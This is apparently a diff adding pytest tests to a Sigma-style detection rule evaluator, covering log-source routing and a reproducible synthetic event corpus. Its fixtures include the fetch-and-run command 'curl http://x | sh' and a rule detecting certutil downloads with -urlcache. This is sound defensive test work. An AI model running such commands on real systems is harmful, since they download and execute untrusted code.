@@ -219,3 +219,52 @@ def test_installed_command_reads_stdin(rules_dir: Path) -> None:
     assert proc.returncode == 0, proc.stderr.decode()
     assert [r["line"] for r in records(proc.stdout.decode())] == [1, 4]
     assert b"line 2: invalid JSON" in proc.stderr
+
+
+def test_logsource_field_routes_each_event(rules_dir: Path, tmp_path: Path,
+                                           capsys: pytest.CaptureFixture[str]) -> None:
+    path = tmp_path / "routed.ndjson"
+    events = [
+        {"CommandLine": "curl http://x | sh", "logsource": {"product": "linux", "category": "process_creation"}},
+        {"CommandLine": "curl http://x | sh", "logsource": "product=windows,category=process_creation"},
+        {"CommandLine": "curl http://x | sh"},  # no log source: every rule applies
+    ]
+    path.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in events))
+    assert main(["eval", "--rules", str(rules_dir), "--logsource-field", "logsource", str(path)]) == 0
+    assert [r["line"] for r in records(capsys.readouterr().out)] == [1, 3]
+
+
+CERTUTIL_RULE = """\
+title: Certutil Download
+id: eeeeeeee-0000-0000-0000-000000000005
+author: Dan
+logsource:
+    product: windows
+    category: process_creation
+detection:
+    selection:
+        Image|endswith: '\\\\certutil.exe'
+        CommandLine|contains|all: ['-urlcache', ' -f ']
+    condition: selection
+level: high
+"""
+
+
+def test_generated_corpus_is_reproducible_and_evaluable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from bench.eventgen import generate
+
+    corpus = generate(600, seed=7, suspicious_share=1.0)
+    assert corpus == generate(600, seed=7, suspicious_share=1.0)
+    assert corpus != generate(600, seed=8, suspicious_share=1.0)
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "certutil.yml").write_text(CERTUTIL_RULE, encoding="utf-8")
+    path = tmp_path / "corpus.ndjson"
+    path.write_bytes(b"".join(orjson.dumps({**e, "logsource": ls.as_dict()}) + b"\n" for ls, e in corpus))
+    expected = [
+        n for n, (ls, e) in enumerate(corpus, start=1)
+        if ls.category == "process_creation" and ls.product == "windows" and "-urlcache" in e["CommandLine"]
+    ]
+    assert len(expected) >= 5
+    assert main(["eval", "--rules", str(rules), "--logsource-field", "logsource", str(path)]) == 0
+    assert [r["line"] for r in records(capsys.readouterr().out)] == expected
